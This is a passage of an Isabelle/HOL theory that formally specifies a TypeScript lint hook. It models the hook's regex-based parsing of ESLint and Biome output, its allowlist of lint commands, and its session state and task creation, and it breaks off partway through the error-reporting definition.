theory Spec2Isabelle
  imports Main
begin

section \<open>Strings\<close>

text \<open>
  A JavaScript string is modelled as a \<^typ>\<open>string\<close>, one \<^typ>\<open>char\<close> per code unit;
  the model covers the code units U+0000 to U+00FF.  The functions below are the methods of
  \<^verbatim>\<open>String.prototype\<close> that \<^verbatim>\<open>src/hook.ts\<close> calls.
\<close>

definition asciiUpper :: string where
  "asciiUpper = ''ABCDEFGHIJKLMNOPQRSTUVWXYZ''"

definition asciiLower :: string where
  "asciiLower = ''abcdefghijklmnopqrstuvwxyz''"

definition asciiDigits :: string where
  "asciiDigits = ''0123456789''"

definition latinUpper :: string where
  \<comment> \<open>U+00C0 to U+00DE without the multiplication sign U+00D7\<close>
  "latinUpper =
     [CHR 0xC0, CHR 0xC1, CHR 0xC2, CHR 0xC3, CHR 0xC4, CHR 0xC5, CHR 0xC6, CHR 0xC7,
      CHR 0xC8, CHR 0xC9, CHR 0xCA, CHR 0xCB, CHR 0xCC, CHR 0xCD, CHR 0xCE, CHR 0xCF,
      CHR 0xD0, CHR 0xD1, CHR 0xD2, CHR 0xD3, CHR 0xD4, CHR 0xD5, CHR 0xD6,
      CHR 0xD8, CHR 0xD9, CHR 0xDA, CHR 0xDB, CHR 0xDC, CHR 0xDD, CHR 0xDE]"

definition latinLower :: string where
  \<comment> \<open>U+00E0 to U+00FE without the division sign U+00F7\<close>
  "latinLower =
     [CHR 0xE0, CHR 0xE1, CHR 0xE2, CHR 0xE3, CHR 0xE4, CHR 0xE5, CHR 0xE6, CHR 0xE7,
      CHR 0xE8, CHR 0xE9, CHR 0xEA, CHR 0xEB, CHR 0xEC, CHR 0xED, CHR 0xEE, CHR 0xEF,
      CHR 0xF0, CHR 0xF1, CHR 0xF2, CHR 0xF3, CHR 0xF4, CHR 0xF5, CHR 0xF6,
      CHR 0xF8, CHR 0xF9, CHR 0xFA, CHR 0xFB, CHR 0xFC, CHR 0xFD, CHR 0xFE]"

definition toLowerChar :: "char \<Rightarrow> char" where
  "toLowerChar c =
     (case map_of (zip (asciiUpper @ latinUpper) (asciiLower @ latinLower)) c of
        Some l \<Rightarrow> l
      | None \<Rightarrow> c)"

definition toLowerCase :: "string \<Rightarrow> string" where
  "toLowerCase s = map toLowerChar s"

definition toUpperChar :: "char \<Rightarrow> char" where
  \<comment> \<open>the source upper-cases only capture 5 of the Biome pattern, which holds ASCII letters;
      on the code units below U+0080 this is \<^verbatim>\<open>toUpperCase\<close>\<close>
  "toUpperChar c =
     (case map_of (zip asciiLower asciiUpper) c of
        Some u \<Rightarrow> u
      | None \<Rightarrow> c)"

definition toUpperCase :: "string \<Rightarrow> string" where
  "toUpperCase s = map toUpperChar s"

fun startsWith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startsWith s [] = True"
| "startsWith [] (p # ps) = False"
| "startsWith (c # cs) (p # ps) = (c = p \<and> startsWith cs ps)"

definition endsWith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "endsWith s p = startsWith (rev s) (rev p)"

fun includes_str :: "string \<Rightarrow> string \<Rightarrow> bool" where
  \<comment> \<open>\<^verbatim>\<open>s.includes(p)\<close>\<close>
  "includes_str [] p = (p = [])"
| "includes_str (c # cs) p = (startsWith (c # cs) p \<or> includes_str cs p)"

fun split_on :: "char \<Rightarrow> string \<Rightarrow> string list" where
  "split_on sep [] = [[]]"
| "split_on sep (c # cs) =
     (if c = sep then [] # split_on sep cs
      else (case split_on sep cs of
              [] \<Rightarrow> [[c]]
            | piece # pieces \<Rightarrow> (c # piece) # pieces))"

definition isWhiteSpace :: "char \<Rightarrow> bool" where
  \<comment> \<open>the white space and line terminator code units below U+0100: what \<^verbatim>\<open>\s\<close> matches
      and what \<^verbatim>\<open>trim\<close> removes\<close>
  "isWhiteSpace c \<longleftrightarrow>
     c \<in> set [CHR 0x09, CHR 0x0A, CHR 0x0B, CHR 0x0C, CHR 0x0D, CHR 0x20, CHR 0xA0]"

definition trim :: "string \<Rightarrow> string" where
  "trim s = rev (dropWhile isWhiteSpace (rev (dropWhile isWhiteSpace s)))"

definition digitValue :: "char \<Rightarrow> nat" where
  "digitValue c = of_char c - 48"

definition decimalValue :: "string \<Rightarrow> nat" where
  "decimalValue s = foldl (\<lambda>n c. 10 * n + digitValue c) 0 s"

text \<open>
  The numbers of the program are the line and the column of a diagnostic: Number values that
  hold a non-negative integer, or \<^verbatim>\<open>Infinity\<close>.  A Number is a double, so an integer above
  \<open>2^53\<close> is rounded to 53 significant bits, ties to the even neighbour, and from \<open>2^1024\<close>
  on the result is \<^verbatim>\<open>Infinity\<close>.
\<close>

datatype number = Finite nat | Infinity

fun bitLength :: "nat \<Rightarrow> nat" where
  \<comment> \<open>the number of binary digits: \<open>bitLength n \<le> k\<close> exactly when \<open>n < 2^k\<close>\<close>
  "bitLength n = (if n = 0 then 0 else Suc (bitLength (n div 2)))"

definition toDouble :: "nat \<Rightarrow> number" where
  "toDouble n =
     (if bitLength n \<le> 53 then Finite n
      else let e = bitLength n - 53;
               q = n div 2 ^ e;
               r = n mod 2 ^ e;
               half = 2 ^ (e - 1);
               q' = (if half < r \<or> (r = half \<and> odd q) then q + 1 else q)
           in if 2 ^ 1024 \<le> q' * 2 ^ e then Infinity else Finite (q' * 2 ^ e))"

definition parseInt :: "string \<Rightarrow> number" where
  \<comment> \<open>\<^verbatim>\<open>parseInt(s, 10)\<close> on a non-empty string of decimal digits, the only arguments the
      source passes (captures of \<^verbatim>\<open>(\d+)\<close>): the Number nearest to the decimal value, as
      V8 and JavaScriptCore compute it\<close>
  "parseInt s = toDouble (decimalValue s)"

section \<open>Regular expressions\<close>

text \<open>
  The three patterns of \<^verbatim>\<open>parseLintOutput\<close> and the one of \<^verbatim>\<open>isValidRepoPattern\<close> are
  kept as data, node by node as they are written in the source, and run by a backtracking
  matcher that tries the alternatives in the order of the ECMAScript matcher: a greedy
  quantifier first takes one more character, a lazy one first tries the rest of the pattern,
  an alternation tries its branches from left to right, an optional group is first tried
  present.  The first complete match found is the result, as in \<^verbatim>\<open>String.prototype.match\<close>
  for a pattern without the \<^verbatim>\<open>g\<close> flag.
\<close>

datatype atom =
    Dot                \<comment> \<open>\<^verbatim>\<open>.\<close>: any code unit but a line terminator\<close>
  | Digit              \<comment> \<open>\<^verbatim>\<open>\d\<close>\<close>
  | Space              \<comment> \<open>\<^verbatim>\<open>\s\<close>\<close>
  | WordChar           \<comment> \<open>\<^verbatim>\<open>\w\<close>\<close>
  | Ch char            \<comment> \<open>a literal character\<close>
  | OneOf string       \<comment> \<open>a bracket expression, its members listed\<close>

datatype node =
    Bol                \<comment> \<open>\<^verbatim>\<open>^\<close>\<close>
  | Eol                \<comment> \<open>\<^verbatim>\<open>$\<close>\<close>
  | Atom atom
  | Plus atom          \<comment> \<open>\<^verbatim>\<open>a+\<close>\<close>
  | PlusLazy atom      \<comment> \<open>\<^verbatim>\<open>a+?\<close>\<close>
  | Star atom          \<comment> \<open>\<^verbatim>\<open>a*\<close>\<close>
  | Open nat           \<comment> \<open>the opening parenthesis of capture group \<open>n\<close>\<close>
  | Close nat          \<comment> \<open>its closing parenthesis\<close>
  | Opt "node list"    \<comment> \<open>\<^verbatim>\<open>(?:...)?\<close>\<close>
  | Alt "node list list"  \<comment> \<open>\<^verbatim>\<open>a|b|c\<close>\<close>

definition lit :: "string \<Rightarrow> node list" where
  "lit w = map (\<lambda>c. Atom (Ch c)) w"

fun atomMatches :: "bool \<Rightarrow> atom \<Rightarrow> char \<Rightarrow> bool" where
  \<comment> \<open>the first argument is the \<^verbatim>\<open>i\<close> flag\<close>
  "atomMatches ic Dot c = (c \<noteq> CHR 0x0A \<and> c \<noteq> CHR 0x0D)"
| "atomMatches ic Digit c = (c \<in> set asciiDigits)"
| "atomMatches ic Space c = isWhiteSpace c"
| "atomMatches ic WordChar c = (c \<in> set (asciiLower @ asciiUpper @ asciiDigits @ ''_''))"
| "atomMatches ic (Ch l) c = (if ic then toLowerChar c = toLowerChar l else c = l)"
| "atomMatches ic (OneOf ls) c =
     (if ic then toLowerChar c \<in> set (map toLowerChar ls) else c \<in> set ls)"

record mstate =
  whole :: string                       \<comment> \<open>the input of the match\<close>
  starts :: "nat \<Rightarrow> string"              \<comment> \<open>the input left when group \<open>n\<close> was opened\<close>
  groups :: "nat \<Rightarrow> string option"       \<comment> \<open>the captures; \<open>None\<close> is \<^verbatim>\<open>undefined\<close>\<close>

function mt :: "bool \<Rightarrow> node list \<Rightarrow> string \<Rightarrow> mstate \<Rightarrow> mstate option" where
  "mt ic [] s m = Some m"
| "mt ic (Bol # rs) s m = (if length s = length (whole m) then mt ic rs s m else None)"
| "mt ic (Eol # rs) s m = (if s = [] then mt ic rs s m else None)"
| "mt ic (Atom a # rs) [] m = None"
| "mt ic (Atom a # rs) (x # xs) m = (if atomMatches ic a x then mt ic rs xs m else None)"
| "mt ic (Plus a # rs) [] m = None"
| "mt ic (Plus a # rs) (x # xs) m =
     (if atomMatches ic a x
      then (case mt ic (Plus a # rs) xs m of
              Some r \<Rightarrow> Some r
            | None \<Rightarrow> mt ic rs xs m)
      else None)"
| "mt ic (PlusLazy a # rs) [] m = None"
| "mt ic (PlusLazy a # rs) (x # xs) m =
     (if atomMatches ic a x
      then (case mt ic rs xs m of
              Some r \<Rightarrow> Some r
            | None \<Rightarrow> mt ic (PlusLazy a # rs) xs m)
      else None)"
| "mt ic (Star a # rs) [] m = mt ic rs [] m"
| "mt ic (Star a # rs) (x # xs) m =
     (if atomMatches ic a x
      then (case mt ic (Star a # rs) xs m of
              Some r \<Rightarrow> Some r
            | None \<Rightarrow> mt ic rs (x # xs) m)
      else mt ic rs (x # xs) m)"
| "mt ic (Open n # rs) s m = mt ic rs s (m\<lparr>starts := (starts m)(n := s)\<rparr>)"
| "mt ic (Close n # rs) s m =
     mt ic rs s
       (m\<lparr>groups := (groups m)(n \<mapsto> take (length (starts m n) - length s) (starts m n))\<rparr>)"
| "mt ic (Opt body # rs) s m =
     (case mt ic (body @ rs) s m of
        Some r \<Rightarrow> Some r
      | None \<Rightarrow> mt ic rs s m)"
| "mt ic (Alt [] # rs) s m = None"
| "mt ic (Alt (a # as) # rs) s m =
     (case mt ic (a @ rs) s m of
        Some r \<Rightarrow> Some r
      | None \<Rightarrow> mt ic (Alt as # rs) s m)"
  by pat_completeness auto
termination
  by (relation "measures [\<lambda>(ic, rs, s, m). size_list size rs, \<lambda>(ic, rs, s, m). length s]")
     (auto simp: size_list_append)

fun search :: "bool \<Rightarrow> node list \<Rightarrow> string \<Rightarrow> string \<Rightarrow> mstate option" where
  \<comment> \<open>the match is tried at every index of the input, from the left\<close>
  "search ic re input [] =
     mt ic re [] \<lparr>whole = input, starts = (\<lambda>n. []), groups = (\<lambda>n. None)\<rparr>"
| "search ic re input (x # xs) =
     (case mt ic re (x # xs) \<lparr>whole = input, starts = (\<lambda>n. []), groups = (\<lambda>n. None)\<rparr> of
        Some r \<Rightarrow> Some r
      | None \<Rightarrow> search ic re input xs)"

definition regexMatch :: "bool \<Rightarrow> node list \<Rightarrow> string \<Rightarrow> (nat \<Rightarrow> string option) option" where
  \<comment> \<open>\<^verbatim>\<open>s.match(re)\<close>: \<open>None\<close> is \<^verbatim>\<open>null\<close>, otherwise the captures by index\<close>
  "regexMatch ic re s = map_option groups (search ic re s s)"

definition grp :: "(nat \<Rightarrow> string option) \<Rightarrow> nat \<Rightarrow> string" where
  \<comment> \<open>\<^verbatim>\<open>m[n]\<close> for a group that takes part in every match of its pattern\<close>
  "grp g n = (case g n of Some t \<Rightarrow> t | None \<Rightarrow> [])"

section \<open>Command gatekeeper\<close>

definition ALLOWED_LINT_COMMANDS :: "string list" where
  "ALLOWED_LINT_COMMANDS =
     [''bun lint'',
      ''bun lint:check'',
      ''bun eslint'',
      ''bun biome check'',
      ''bunx @biomejs/biome check .'',
      ''bunx eslint .'',
      ''npm run lint'',
      ''npm run lint:check'',
      ''npx eslint .'',
      ''npx @biomejs/biome check .'']"

definition isValidLintCommand :: "string \<Rightarrow> bool" where
  "isValidLintCommand cmd =
     (if cmd = [] then False
      else list_ex (\<lambda>allowed. cmd = allowed \<or> startsWith cmd (allowed @ '' ''))
             ALLOWED_LINT_COMMANDS)"

section \<open>Diagnostic parser\<close>

datatype severity = Error | Warning

record LintError =
  "file" :: string
  line :: number
  column :: number
  message :: string
  rule :: "string option"
  severity :: severity

definition eslintRe :: "node list" where
  \<comment> \<open>\<^verbatim>\<open>/^(.+?):(\d+):(\d+):\s*(error|warning)\s+(.+?)(?:\s+\[(.+?)\])?$/i\<close>\<close>
  "eslintRe =
     [Bol, Open 1, PlusLazy Dot, Close 1, Atom (Ch CHR '':''),
      Open 2, Plus Digit, Close 2, Atom (Ch CHR '':''),
      Open 3, Plus Digit, Close 3, Atom (Ch CHR '':''), Star Space,
      Open 4, Alt [lit ''error'', lit ''warning''], Close 4, Plus Space,
      Open 5, PlusLazy Dot, Close 5,
      Opt [Plus Space, Atom (Ch CHR ''[''), Open 6, PlusLazy Dot, Close 6, Atom (Ch CHR '']'')],
      Eol]"

definition biomeRe :: "node list" where
  \<comment> \<open>\<^verbatim>\<open>/^(.+?):(\d+):(\d+)\s+(\w+\/\w+)\s+(ERROR|WARNING|WARN)\s+(.+)$/i\<close>\<close>
  "biomeRe =
     [Bol, Open 1, PlusLazy Dot, Close 1, Atom (Ch CHR '':''),
      Open 2, Plus Digit, Close 2, Atom (Ch CHR '':''),
      Open 3, Plus Digit, Close 3, Plus Space,
      Open 4, Plus WordChar, Atom (Ch CHR ''/''), Plus WordChar, Close 4, Plus Space,
      Open 5, Alt [lit ''ERROR'', lit ''WARNING'', lit ''WARN''], Close 5, Plus Space,
      Open 6, Plus Dot, Close 6,
      Eol]"

definition genericRe :: "node list" where
  \<comment> \<open>\<^verbatim>\<open>/^(.+?):(\d+):(\d+):\s*(.+)$/\<close>\<close>
  "genericRe =
     [Bol, Open 1, PlusLazy Dot, Close 1, Atom (Ch CHR '':''),
      Open 2, Plus Digit, Close 2, Atom (Ch CHR '':''),
      Open 3, Plus Digit, Close 3, Atom (Ch CHR '':''), Star Space,
      Open 4, Plus Dot, Close 4,
      Eol]"

definition severityOfString :: "string \<Rightarrow> severity" where
  \<comment> \<open>the cast \<^verbatim>\<open>as "error" | "warning"\<close> of the lower-cased capture 4, which the pattern
      restricts to these two words\<close>
  "severityOfString t = (if t = ''error'' then Error else Warning)"

definition eslintError :: "(nat \<Rightarrow> string option) \<Rightarrow> LintError" where
  "eslintError eslintMatch =
     \<lparr>file = grp eslintMatch 1,
      line = parseInt (grp eslintMatch 2),
      column = parseInt (grp eslintMatch 3),
      message = trim (grp eslintMatch 5),
      rule = eslintMatch 6,
      severity = severityOfString (toLowerCase (grp eslintMatch 4))\<rparr>"

definition biomeError :: "(nat \<Rightarrow> string option) \<Rightarrow> LintError" where
  "biomeError biomeMatch =
     \<lparr>file = grp biomeMatch 1,
      line = parseInt (grp biomeMatch 2),
      column = parseInt (grp biomeMatch 3),
      message = trim (grp biomeMatch 6),
      rule = Some (grp biomeMatch 4),
      severity = (if startsWith (toUpperCase (grp biomeMatch 5)) ''ERR'' then Error else Warning)\<rparr>"

definition genericError :: "string \<Rightarrow> (nat \<Rightarrow> string option) \<Rightarrow> LintError" where
  "genericError ln genericMatch =
     \<lparr>file = grp genericMatch 1,
      line = parseInt (grp genericMatch 2),
      column = parseInt (grp genericMatch 3),
      message = trim (grp genericMatch 4),
      rule = None,
      severity = (if includes_str (toLowerCase ln) ''error'' then Error else Warning)\<rparr>"

definition parseStep :: "LintError list \<Rightarrow> string \<Rightarrow> LintError list" where
  \<comment> \<open>the body of the loop over the lines, with the list \<^verbatim>\<open>errors\<close> it pushes to\<close>
  "parseStep errors ln =
     (case regexMatch True eslintRe ln of
        Some eslintMatch \<Rightarrow> errors @ [eslintError eslintMatch]
      | None \<Rightarrow>
         (case regexMatch True biomeRe ln of
            Some biomeMatch \<Rightarrow> errors @ [biomeError biomeMatch]
          | None \<Rightarrow>
             (case regexMatch False genericRe ln of
                Some genericMatch \<Rightarrow>
                  if \<not> startsWith (grp genericMatch 1) '' ''
                  then errors @ [genericError ln genericMatch]
                  else errors
              | None \<Rightarrow> errors)))"

definition parseLintOutput :: "string \<Rightarrow> LintError list" where
  "parseLintOutput output = foldl parseStep [] (split_on (CHR 0x0A) output)"

section \<open>Hook input, configuration and session state\<close>

record ToolInput =
  file_path :: "string option"
  notebook_path :: "string option"

record HookInput =
  session_id :: string
  transcript_path :: string
  cwd :: string
  tool_name :: string
  tool_input :: ToolInput

record CheckLintConfig =
  taskListId :: "string option"
  lintCommand :: "string option"
  editThreshold :: "int option"
  "keywords" :: "string list option"
  enabled :: "bool option"
  createTasks :: "bool option"

record SessionState =
  editCount :: nat
  editedFiles :: "string list"
  lastLintRun :: nat

datatype StateFile =
    Parsed SessionState   \<comment> \<open>the file holds a JSON session state\<close>
  | Corrupted             \<comment> \<open>\<^verbatim>\<open>JSON.parse\<close> throws on the file's content\<close>

text \<open>
  What \<^verbatim>\<open>execSync\<close> meets when it runs a command.  The source passes a timeout of 60 s and
  no \<^verbatim>\<open>maxBuffer\<close>, so the buffer for the output is the default one of 1 MiB.
\<close>

datatype ProcResult =
    Exited nat string string
      \<comment> \<open>the process ended by itself within the time and the buffer: exit status, standard
          output, standard error\<close>
  | Overflowed nat string string
      \<comment> \<open>the output passed the buffer and \<^verbatim>\<open>execSync\<close> throws, whatever the exit status
          with which the process ended (0 included): status, and the standard output and
          error captured until then\<close>
  | TimedOut string string
      \<comment> \<open>killed after 60 s: standard output and error so far\<close>
  | SpawnFailed
      \<comment> \<open>the process could not be started\<close>

record TaskMetadata =
  source :: string
  meta_file :: string
  meta_line :: number
  meta_column :: number
  meta_rule :: "string option"
  meta_severity :: severity

record Task =
  task_id :: string
  subject :: string
  description :: string
  status :: string
  createdAt :: string
  metadata :: TaskMetadata

text \<open>
  What one invocation of the hook reads from outside: standard input, the settings files,
  the transcript, the state directory, the project directory, the lint process, the task
  directory and the clock.
\<close>

record World =
  stdin :: "HookInput option"
    \<comment> \<open>\<^verbatim>\<open>readStdinJson()\<close>; \<open>None\<close> when standard input is not JSON\<close>
  projectSettings :: "CheckLintConfig option"
    \<comment> \<open>the \<^verbatim>\<open>checkLintConfig\<close> entry of the project's settings file, when it has one\<close>
  globalSettings :: "CheckLintConfig option"
    \<comment> \<open>the same entry of the user's settings file\<close>
  transcripts :: "string \<Rightarrow> string option list option"
    \<comment> \<open>by path: \<open>None\<close> when the transcript cannot be read; otherwise, for each occurrence
        of \<^verbatim>\<open>"custom-title"\<close> in file order, the \<^verbatim>\<open>customTitle\<close> of its line when the line
        is a JSON entry of type \<^verbatim>\<open>custom-title\<close>, else \<open>None\<close>\<close>
  stateFiles :: "string \<Rightarrow> StateFile option"
    \<comment> \<open>the files of the state directory, by file name\<close>
  packageScripts :: "(string \<Rightarrow> bool) option"
    \<comment> \<open>when \<^verbatim>\<open>package.json\<close> exists and parses: which scripts it declares\<close>
  cwdFiles :: "string \<Rightarrow> bool"
    \<comment> \<open>\<^verbatim>\<open>existsSync(join(cwd, name))\<close>\<close>
  exec :: "string \<Rightarrow> string \<Rightarrow> ProcResult"
    \<comment> \<open>\<^verbatim>\<open>execSync\<close> of a command in a directory\<close>
  taskLists :: "string list option"
    \<comment> \<open>the directories under the tasks directory; \<open>None\<close> when it cannot be listed\<close>
  clock :: nat
    \<comment> \<open>\<^verbatim>\<open>Date.now()\<close>\<close>
  taskStamps :: "nat \<Rightarrow> string \<times> string"
    \<comment> \<open>the identifier (time and random suffix) and the creation time that the \<open>k\<close>-th call
        of \<^verbatim>\<open>createTask\<close> draws\<close>
  largeNumberText :: "nat \<Rightarrow> string"
    \<comment> \<open>\<^verbatim>\<open>Number.prototype.toString\<close> on an integer Number from \<open>2^53\<close> on (the shortest
        digits that read back as the same Number, in exponent notation from \<open>10^21\<close>): this
        library function is not modelled and its result is taken from outside\<close>

text \<open>What one invocation does to the outside.\<close>

record Outcome =
  stdout :: "string list"
  stderr :: "string list"
  stateWrites :: "(string \<times> SessionState) list"
    \<comment> \<open>the calls of \<^verbatim>\<open>saveSessionState\<close>: file name and content\<close>
  tasks :: "(string \<times> Task) list"
    \<comment> \<open>the calls of \<^verbatim>\<open>createTask\<close>: task list and task written\<close>

definition truthy :: "string option \<Rightarrow> bool" where
  "truthy v = (case v of Some t \<Rightarrow> t \<noteq> [] | None \<Rightarrow> False)"

definition orElse :: "string option \<Rightarrow> string option \<Rightarrow> string option" where
  \<comment> \<open>\<^verbatim>\<open>a || b\<close> on strings that may be \<^verbatim>\<open>undefined\<close> or \<^verbatim>\<open>null\<close>\<close>
  "orElse a b = (if truthy a then a else b)"

definition orEmpty :: "string option \<Rightarrow> string" where
  \<comment> \<open>\<^verbatim>\<open>a || ""\<close>\<close>
  "orEmpty a = (case a of Some t \<Rightarrow> t | None \<Rightarrow> [])"

fun showDigits :: "nat \<Rightarrow> string" where
  \<comment> \<open>the decimal digits of an integer\<close>
  "showDigits n =
     (if n < 10 then [asciiDigits ! n]
      else showDigits (n div 10) @ [asciiDigits ! (n mod 10)])"

fun numberText :: "World \<Rightarrow> number \<Rightarrow> string" where
  \<comment> \<open>a Number inside a template literal; below \<open>2^53\<close> every integer is a Number of its
      own and is printed with all its digits\<close>
  "numberText w (Finite n) =
     (if bitLength n \<le> 53 then showDigits n else largeNumberText w n)"
| "numberText w Infinity = ''Infinity''"

definition EDIT_TOOLS :: "string list" where
  "EDIT_TOOLS = [''Edit'', ''Write'', ''NotebookEdit'']"

definition sanitizeId :: "string \<Rightarrow> string" where
  "sanitizeId ident =
     (if ident = [] then ''default''
      else let t = take 100
                     (map (\<lambda>c. if c \<in> set (asciiLower @ asciiUpper @ asciiDigits @ ''_-'')
                                then c else CHR ''-'') ident)
           in if t = [] then ''default'' else t)"

definition lastSegment :: "string \<Rightarrow> string" where
  \<comment> \<open>\<^verbatim>\<open>p.split("/").pop() || ""\<close>\<close>
  "lastSegment p = (case split_on CHR ''/'' p of [] \<Rightarrow> [] | ps \<Rightarrow> last ps)"

definition dirName :: "string \<Rightarrow> string" where
  \<comment> \<open>\<^verbatim>\<open>cwd.split("/").filter(Boolean).pop() || ""\<close>\<close>
  "dirName d = (case filter (\<lambda>p. p \<noteq> []) (split_on CHR ''/'' d) of [] \<Rightarrow> [] | ps \<Rightarrow> last ps)"

definition repoRe :: "node list" where
  \<comment> \<open>\<^verbatim>\<open>/^[a-z]+-[a-z0-9-]+$/i\<close>\<close>
  "repoRe =
     [Bol, Plus (OneOf asciiLower), Atom (Ch CHR ''-''),
      Plus (OneOf (asciiLower @ asciiDigits @ ''-'')), Eol]"

definition isValidRepoPattern :: "string \<Rightarrow> bool" where
  "isValidRepoPattern d = (regexMatch True repoRe (dirName d) \<noteq> None)"

definition defaultConfig :: CheckLintConfig where
  "defaultConfig =
     \<lparr>taskListId = None, lintCommand = None, editThreshold = Some 3,
      keywords = Some [''dev''], enabled = Some True, createTasks = Some True\<rparr>"

definition getConfig :: "World \<Rightarrow> CheckLintConfig" where
  "getConfig w =
     (case projectSettings w of
        Some c \<Rightarrow> c
      | None \<Rightarrow> (case globalSettings w of Some c \<Rightarrow> c | None \<Rightarrow> defaultConfig))"

definition getStateFile :: "string \<Rightarrow> string" where
  \<comment> \<open>the file name under the state directory\<close>
  "getStateFile sessionId = ''checklint-'' @ sanitizeId sessionId @ ''.json''"

definition getSessionState :: "World \<Rightarrow> string \<Rightarrow> SessionState" where
  "getSessionState w sessionId =
     (case stateFiles w (getStateFile sessionId) of
        Some (Parsed st) \<Rightarrow> st
      | _ \<Rightarrow> \<lparr>editCount = 0, editedFiles = [], lastLintRun = 0\<rparr>)"

definition detectLintCommand :: "World \<Rightarrow> string option" where
  "detectLintCommand w =
     (let byConfigFile =
            (if cwdFiles w ''biome.json'' \<or> cwdFiles w ''biome.jsonc''
             then Some ''bunx @biomejs/biome check .''
             else if cwdFiles w ''.eslintrc.json'' \<or> cwdFiles w ''.eslintrc.js''
                     \<or> cwdFiles w ''eslint.config.js''
             then Some ''bunx eslint .''
             else None)
      in case packageScripts w of
           Some scripts \<Rightarrow>
             if scripts ''lint'' then Some ''bun lint''
             else if scripts ''lint:check'' then Some ''bun lint:check''
             else if scripts ''eslint'' then Some ''bun eslint''
             else if scripts ''biome'' then Some ''bun biome check''
             else byConfigFile
         | None \<Rightarrow> byConfigFile)"

definition runLint :: "World \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool \<times> string" where
  \<comment> \<open>\<^verbatim>\<open>execSync\<close> returns the standard output when the process ends with status 0 within
      the time and the buffer, and throws otherwise; the \<^verbatim>\<open>catch\<close> block joins what the error
      holds of the two outputs\<close>
  "runLint w dir command =
     (case exec w dir command of
        Exited code out err \<Rightarrow> if code = 0 then (True, out) else (False, out @ err)
      | Overflowed code out err \<Rightarrow> (False, out @ err)
      | TimedOut out err \<Rightarrow> (False, out @ err)
      | SpawnFailed \<Rightarrow> (False, []))"

definition getProjectTaskList :: "World \<Rightarrow> string \<Rightarrow> string option" where
  "getProjectTaskList w dir =
     (case taskLists w of
        None \<Rightarrow> None
      | Some names \<Rightarrow>
          (let dirLower = toLowerCase (dirName dir);
               bugfixList = List.find (\<lambda>l. startsWith (toLowerCase l) dirLower
                                          \<and> includes_str (toLowerCase l) ''bugfix'') names;
               devList = List.find (\<lambda>l. startsWith (toLowerCase l) dirLower
                                       \<and> includes_str (toLowerCase l) ''dev'') names
           in if truthy bugfixList then bugfixList
              else if truthy devList then devList else None))"

definition severityWord :: "severity \<Rightarrow> string" where
  "severityWord v = (case v of Error \<Rightarrow> ''error'' | Warning \<Rightarrow> ''warning'')"

definition createTask :: "World \<Rightarrow> nat \<Rightarrow> LintError \<Rightarrow> Task" where
  \<comment> \<open>the task that the \<open>k\<close>-th call of \<^verbatim>\<open>createTask\<close> writes\<close>
  "createTask w k e =
     (let sev = (if severity e = Error then ''MEDIUM'' else ''LOW'');
          ruleInfo = (if truthy (rule e) then '' ('' @ orEmpty (rule e) @ '')'' else [])
      in \<lparr>task_id = fst (taskStamps w k),
          subject = ''BUG: '' @ sev @ '' - Fix lint '' @ severityWord (severity e) @ '' in ''
                    @ file e @ '':'' @ numberText w (line e),
          description =
            ''Fix lint '' @ severityWord (severity e) @ '' at '' @ file e @ '':''
            @ numberText w (line e) @ '':'' @ numberText w (column e) @ [CHR 0x0A, CHR 0x0A]
            @ ''**Error:** '' @ message e @ ruleInfo @ [CHR 0x0A, CHR 0x0A]
            @ ''**File:** '' @ file e @ [CHR 0x0A]
            @ ''**Line:** '' @ numberText w (line e) @ [CHR 0x0A]
            @ ''**Column:** '' @ numberText w (column e)
            @ (if truthy (rule e) then [CHR 0x0A] @ ''**Rule:** '' @ orEmpty (rule e) else [])
            @ [CHR 0x0A, CHR 0x0A] @ ''**Acceptance criteria:**'' @ [CHR 0x0A]
            @ ''- Lint error is fixed'' @ [CHR 0x0A]
            @ ''- No new lint errors introduced'',
          status = ''pending'',
          createdAt = snd (taskStamps w k),
          metadata = \<lparr>source = ''hook-checklint'', meta_file = file e, meta_line = line e,
                       meta_column = column e, meta_rule = rule e,
                       meta_severity = severity e\<rparr>\<rparr>)"

definition getSessionName :: "World \<Rightarrow> string \<Rightarrow> string option" where
  \<comment> \<open>the last non-empty custom title of the transcript\<close>
  "getSessionName w transcriptPath =
     (case transcripts w transcriptPath of
        None \<Rightarrow> None
      | Some entries \<Rightarrow>
          foldl (\<lambda>lastTitle entry. if truthy entry then entry else lastTitle) None entries)"

section \<open>The hook\<close>

definition approveText :: string where
  \<comment> \<open>\<^verbatim>\<open>JSON.stringify({ decision: "approve" })\<close>\<close>
  "approveText = ''{'' @ [CHR 0x22] @ ''decision'' @ [CHR 0x22] @ '':'' @ [CHR 0x22]
                 @ ''approve'' @ [CHR 0x22] @ ''}''"

definition approve :: "Outcome \<Rightarrow> Outcome" where
  \<comment> \<open>prints the decision and ends the process with status 0\<close>
  "approve out = out\<lparr>stdout := stdout out @ [approveText]\<rparr>"

definition nothingDone :: Outcome where
  "nothingDone = \<lparr>stdout = [], stderr = [], stateWrites = [], tasks = []\<rparr>"

definition isRelevant :: "string list \<Rightarrow> LintError \<Rightarrow> bool" where
  \<comment> \<open>the predicate of \<^verbatim>\<open>errors.filter\<close> in \<^verbatim>\<open>run\<close>\<close>
  "isRelevant edited e =
     list_ex (\<lambda>f. endsWith f (file e) \<or> endsWith (file e) (lastSegment f)) edited"

definition createdLine :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "createdLine n listId =
     ''[hook-checklint] Created '' @ showDigits n @ '' task(s) for lint errors in ''
     @ [CHR 0x22] @ listId @ [CHR 0x22]"

definition moreLine :: "nat \<Rightarrow> string" where
  "moreLine n = ''[hook-checklint] ('' @ showDigits n @ '' more errors not reported)''"

definition reportErrors :: "World \<Rightarrow> CheckLintConfig \<Rightarrow> string \<Rightarrow> LintError list \<Rightarrow> Outcome \<Rightarrow> Outcome" where
  \<comment> \<open>the block of \<^verbatim>\<open>run\<close> that creates the tasks for the relevant errors\<close>
  "reportErrors w config dir relevantErrors out =
     (if createTasks config \<noteq> Some False \<and> length relevantErrors > 0
      then (case orElse (taskListId config) (getProjectTaskList w dir) of
              None \<Rightarrow> out
            | Some listId \<Rightarrow>
                if listId = [] then out
                else
                  (let errorsToReport = take 5 relevantErrors;
                       written = map (\<lambda>(k, e). (listId, createTask w k e))
                                   (zip [0 ..< length errorsToReport] errorsToReport)
                   in out\<lparr>tasks := tasks out @ written,
                          stderr := stderr out
                            @ [createdLine (length errorsToReport) listId]
                            @ (if length relevantErrors > 5
